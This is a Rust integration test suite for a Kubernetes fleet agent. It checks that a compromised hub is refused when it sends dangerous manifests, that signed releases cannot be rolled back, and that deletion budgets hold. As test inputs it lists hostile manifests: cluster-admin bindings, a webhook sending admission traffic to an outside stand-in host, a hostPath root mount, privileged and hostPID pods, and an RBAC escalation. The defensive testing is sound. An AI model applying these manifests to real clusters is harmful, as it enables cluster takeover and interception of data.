//! A hub that was taken over plays its scripts: whatever it sends, the cluster's owner has drawn the line. Rows of the
//! threat model about hubs (docs/design/threat-model.md).

use aws_lc_rs::signature::Ed25519KeyPair;
use fleet_objects::{
    ANNOTATION_CONFIRM_DELETIONS, ANNOTATION_SIGNATURES, Assignment, AssignmentStatus, Cluster, Profile,
    RefusalReason, condition,
};
use fleet_planner::release::{Release, SignedRelease, public_key};
use k8s_openapi::api::core::v1::{ConfigMap, Secret, ServiceAccount};
use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, RoleBinding};
use kube::Api;
use kube::api::{ListParams, Patch, PatchParams, PostParams};
use serde_json::{Value, json};

use crate::bench::{Bench, eventually};
use crate::{config_map, value};

async fn status(bench: &Bench, assignment: &str) -> AssignmentStatus {
    let api: Api<Assignment> = Api::namespaced(bench.hub_client(), "cluster-dev");
    api.get_opt(assignment).await.unwrap().and_then(|found| found.status).unwrap_or_default()
}

/// Waits until the newest generation is refused because the owner does not allow it; answers the agent's words.
async fn forbidden(bench: &Bench, assignment: &str) -> String {
    let api: Api<Assignment> = Api::namespaced(bench.hub_client(), "cluster-dev");
    eventually(&format!("{assignment} is refused"), || async {
        let Some(found) = api.get_opt(assignment).await.unwrap() else { return false };
        let refusal = found.status.and_then(|status| status.refusal);
        refusal.is_some_and(|refusal| {
            refusal.reason == RefusalReason::Forbidden && refusal.generation == found.spec.generation
        })
    })
    .await;
    status(bench, assignment).await.refusal.unwrap().message
}

fn pod_template(spec: Value) -> Value {
    json!({"metadata": {"labels": {"app": "x"}}, "spec": spec})
}

fn container(more: Value) -> Value {
    let mut container = json!({"name": "c", "image": "fairlead.dev/tool:latest"});
    container.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    container
}

/// What somebody would send who wants the cluster, with a word of the answer.
fn attacks() -> Vec<(&'static str, Value, &'static str)> {
    let rbac = "rbac.authorization.k8s.io/v1";
    let admin =
        json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"});
    let subject = json!([{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]);
    let webhook = json!([{
        "name": "steal.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
        "clientConfig": {"url": "https://example.com/all"},
    }]);
    vec![
        (
            "administrator",
            json!({"apiVersion": rbac, "kind": "ClusterRoleBinding", "metadata": {"name": "evil"},
                "roleRef": admin, "subjects": subject}),
            "ceiling",
        ),
        (
            "webhook",
            json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
                "metadata": {"name": "evil"}, "webhooks": webhook}),
            "ceiling",
        ),
        (
            "aggregated",
            json!({"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": {"name": "v1.evil.io"},
                "spec": {"group": "evil.io", "version": "v1", "groupPriorityMinimum": 100, "versionPriority": 100,
                    "insecureSkipTLSVerify": true, "service": {"name": "x", "namespace": "default"}}}),
            "ceiling",
        ),
        (
            "system",
            json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "evil", "namespace": "kube-system"}}),
            "ceiling",
        ),
        (
            "own-ceiling",
            json!({"apiVersion": "v1", "kind": "ConfigMap",
                "metadata": {"name": "fairlead-ceiling", "namespace": "fairlead-system"}, "data": {"ceiling.yaml": ""}}),
            "fairlead-system",
        ),
        (
            "own-identity",
            json!({"apiVersion": rbac, "kind": "RoleBinding",
                "metadata": {"name": "evil", "namespace": "fairlead-profiles"}, "roleRef": admin, "subjects": subject}),
            "fairlead-profiles",
        ),
        (
            "host",
            json!({"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "evil"},
                "spec": {"selector": {"matchLabels": {"app": "x"}},
                    "template": pod_template(json!({"hostPID": true, "containers": [container(json!({}))]}))}}),
            "host namespaces",
        ),
        (
            "disk",
            json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "evil"},
                "spec": {"containers": [container(json!({}))], "volumes": [{"name": "v", "hostPath": {"path": "/"}}]}}),
            "hostPath",
        ),
        (
            "root",
            json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "evil"},
                "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": pod_template(json!({
                    "restartPolicy": "Never",
                    "containers": [container(json!({"securityContext": {"privileged": true}}))]}))}}}}),
            "privileged",
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_hub_sends_stays_under_the_builtin_ceiling() {
    let bench = Bench::start(&["dev"]).await;
    for (name, object, word) in attacks() {
        // Something harmless comes with it: a generation is refused whole.
        bench.profile(name, json!({"manifests": [config_map(&format!("with-{name}"), "1"), object]})).await;
        bench.place(name, json!({}), json!({})).await;
        let said = forbidden(&bench, &format!("default.{name}")).await;
        assert!(said.contains(word), "{name}: {said}");
    }
    let client = bench.cluster_client("dev");
    let maps: Api<ConfigMap> = Api::namespaced(client.clone(), "default");
    let applied = maps.list(&ListParams::default().labels(fleet_objects::LABEL_ASSIGNMENT)).await.unwrap();
    assert!(applied.items.is_empty(), "nothing half-applied: {applied:?}");
    assert!(Api::<ClusterRoleBinding>::all(client.clone()).get_opt("evil").await.unwrap().is_none());
    assert!(Api::<Secret>::namespaced(client, "kube-system").get_opt("evil").await.unwrap().is_none());
    // The owner's refusals are seen at the Cluster too.
    let clusters: Api<Cluster> = Api::all(bench.hub_client());
    eventually("the cluster says so", || async {
        let status = clusters.get("dev").await.unwrap().status.unwrap_or_default();
        condition(&status.conditions, "Refusing")
            .is_some_and(|refusing| refusing.status == "True" && refusing.message.contains("Forbidden"))
    })
    .await;
    bench.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_profile_may_what_its_identity_was_granted_and_no_more() {
    let mut bench = Bench::start(&["dev"]).await;
    bench.ceiling("dev", "identity: PerProfile\n");
    bench.restart_agent("dev").await;
    bench.profile("app", json!({"manifests": [config_map("a", "1")]})).await;
    bench.place("app", json!({}), json!({})).await;
    let said = forbidden(&bench, "default.app").await;
    assert!(said.contains("system:serviceaccount:fairlead-profiles:default.app"), "{said}");
    // The owner grants that profile, and it alone, to edit one namespace.
    let client = bench.cluster_client("dev");
    let bindings: Api<RoleBinding> = Api::namespaced(client.clone(), "default");
    let grant = serde_json::from_value(json!({
        "metadata": {"name": "app"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default.app", "namespace": "fairlead-profiles"}],
    }));
    bindings.create(&PostParams::default(), &grant.unwrap()).await.unwrap();
    bench.applied("dev", "default.app").await;
    let maps = bench.config_maps("dev");
    maps.delete("a", &kube::api::DeleteParams::default()).await.unwrap();
    eventually("it is repaired with the same rights", || async { value(&maps, "a").await.is_some() }).await;
    // Another profile has none of these rights.
    bench.profile("other", json!({"manifests": [config_map("b", "1")]})).await;
    bench.place("other", json!({}), json!({})).await;
    assert!(forbidden(&bench, "default.other").await.contains("default.other"));
    // Nor does this one have more: another namespace, or a role that is more than its own.
    let elsewhere = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "x", "namespace": "kube-public"}});
    let escalation = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "more"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "default.app", "namespace": "fairlead-profiles"}],
    });
    // What policies find is told to the hub: who may not bring any has none judged by, though the cluster knows no such kind.
    let reader = json!({"apiVersion": "templates.gatekeeper.sh/v1", "kind": "ConstraintTemplate", "metadata": {"name": "reader"},
        "spec": {"crd": {"spec": {"names": {"kind": "Reader"}}}, "targets": []}});
    for (object, word) in [
        (elsewhere, "kube-public"),
        (escalation, "attempting to grant RBAC permissions not currently held"),
        (reader, "may not create constrainttemplates in API group \"templates.gatekeeper.sh\""),
    ] {
        bench.profile("app", json!({"manifests": [config_map("a", "2"), object]})).await;
        eventually("refused", || async {
            let refusal = status(&bench, "default.app").await.refusal;
            refusal.is_some_and(|refusal| refusal.message.contains(word))
        })
        .await;
    }
    assert_eq!(value(&maps, "a").await.as_deref(), Some("1"), "nothing half-applied");
    assert!(bindings.get_opt("more").await.unwrap().is_none());
    let accounts: Api<ServiceAccount> = Api::namespaced(client, "kube-public");
    assert!(accounts.get_opt("x").await.unwrap().is_none());
    bench.stop().await;
}

fn key() -> Vec<u8> {
    Ed25519KeyPair::generate().unwrap().to_pkcs8v1().unwrap().as_ref().to_vec()
}

async fn digest(bench: &Bench) -> String {
    let profiles: Api<Profile> = Api::namespaced(bench.hub_client(), "default");
    let mut digest = None;
    eventually("the profile is read", || async {
        let profile = profiles.get("app").await.unwrap();
        profile.status.is_some_and(|status| {
            Some(status.observed_generation) == profile.metadata.generation && status.digest.is_some()
        })
    })
    .await;
    digest.get_or_insert(profiles.get("app").await.unwrap().status.unwrap().digest.unwrap()).clone()
}

async fn publish(bench: &Bench, signatures: &[SignedRelease]) {
    let profiles: Api<Profile> = Api::namespaced(bench.hub_client(), "default");
    let text = serde_json::to_string(signatures).unwrap();
    let patch = json!({"metadata": {"annotations": {ANNOTATION_SIGNATURES: text}}});
    profiles.patch("app", &PatchParams::default(), &Patch::Merge(patch)).await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn only_releases_that_pinned_keys_vouch_for_are_taken_and_never_an_older_one() {
    let mut bench = Bench::start(&["dev"]).await;
    let (key, stranger) = (key(), key());
    let pinned = public_key(&key).unwrap();
    bench.ceiling(
        "dev",
        &format!(
            "identity: Agent\nreleases: {{threshold: 1, keys: [{{name: us, publicKey: '{pinned}'}}]}}\n"
        ),
    );
    bench.restart_agent("dev").await;
    let maps = bench.config_maps("dev");
    let sign = |digest: &str, version: u64, key: &[u8]| {
        let release =
            Release { profile: "default/app".to_owned(), digest: digest.to_owned(), version, expires: None };
        release.sign(key).unwrap()
    };
    bench.profile("app", json!({"manifests": [config_map("a", "1")]})).await;
    bench.place("app", json!({}), json!({})).await;
    assert!(forbidden(&bench, "default.app").await.contains("no pinned key"));
    let first = digest(&bench).await;
    publish(&bench, &[sign(&first, 1, &stranger)]).await;
    publish(&bench, &[sign(&first, 1, &key)]).await;
    bench.applied("dev", "default.app").await;
    // Other content under the same signature, then signed, then the older one brought back.
    bench.profile("app", json!({"manifests": [config_map("a", "2")]})).await;
    forbidden(&bench, "default.app").await;
    assert_eq!(value(&maps, "a").await.as_deref(), Some("1"));
    let second = digest(&bench).await;
    let both = [sign(&first, 1, &key), sign(&second, 2, &key)];
    publish(&bench, &both).await;
    bench.applied("dev", "default.app").await;
    assert_eq!(value(&maps, "a").await.as_deref(), Some("2"));
    bench.profile("app", json!({"manifests": [config_map("a", "1")]})).await;
    assert!(forbidden(&bench, "default.app").await.contains("version 2 is held"));
    assert_eq!(value(&maps, "a").await.as_deref(), Some("2"));
    // A person who holds the key may go back, by saying so.
    publish(&bench, &[sign(&first, 3, &key)]).await;
    bench.applied("dev", "default.app").await;
    assert_eq!(value(&maps, "a").await.as_deref(), Some("1"));
    bench.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hub_can_delete_no_more_than_the_budget_whatever_it_confirms() {
    let mut bench = Bench::start(&["dev"]).await;
    bench.ceiling("dev", "identity: Agent\ndeletions: {perHour: 4}\n");
    bench.restart_agent("dev").await;
    let all =
        |count: usize| (0..count).map(|index| config_map(&format!("m{index}"), "1")).collect::<Vec<_>>();
    bench.profile("app", json!({"manifests": all(9)})).await;
    bench.place("app", json!({}), json!({})).await;
    bench.applied("dev", "default.app").await;
    let maps = bench.config_maps("dev");
    let count = || async {
        let listed = maps.list(&ListParams::default().labels(fleet_objects::LABEL_ASSIGNMENT)).await;
        listed.unwrap().items.len()
    };
    bench.profile("app", json!({"manifests": all(6)})).await;
    eventually("within the budget", || async { count().await == 6 }).await;
    // A restart does not open the budget anew.
    bench.restart_agent("dev").await;
    bench.profile("app", json!({"manifests": all(2)})).await;
    eventually("held", || async { status(&bench, "default.app").await.held_deletion_count == 4 }).await;
    let api: Api<Assignment> = Api::namespaced(bench.hub_client(), "cluster-dev");
    let generation = api.get("default.app").await.unwrap().spec.generation.to_string();
    let confirm = json!({"metadata": {"annotations": {ANNOTATION_CONFIRM_DELETIONS: generation}}});
    api.patch("default.app", &PatchParams::default(), &Patch::Merge(confirm)).await.unwrap();
    // Proof that the confirmation was seen and changed nothing: a later change of the profile arrives.
    let mut next = all(2);
    next.push(config_map("new", "1"));
    bench.profile("app", json!({"manifests": next})).await;
    eventually("the rest goes on", || async { value(&maps, "new").await.is_some() }).await;
    assert_eq!(count().await, 7);
    let held = status(&bench, "default.app").await;
    assert!(condition(&held.conditions, "Applied").unwrap().message.contains("4 an hour"), "{held:?}");
    // The owner's word alone opens it.
    bench.ceiling("dev", "identity: Agent\ndeletions: {perHour: 40}\n");
    eventually("the owner let it go", || async { count().await == 3 }).await;
    bench.stop().await;
}
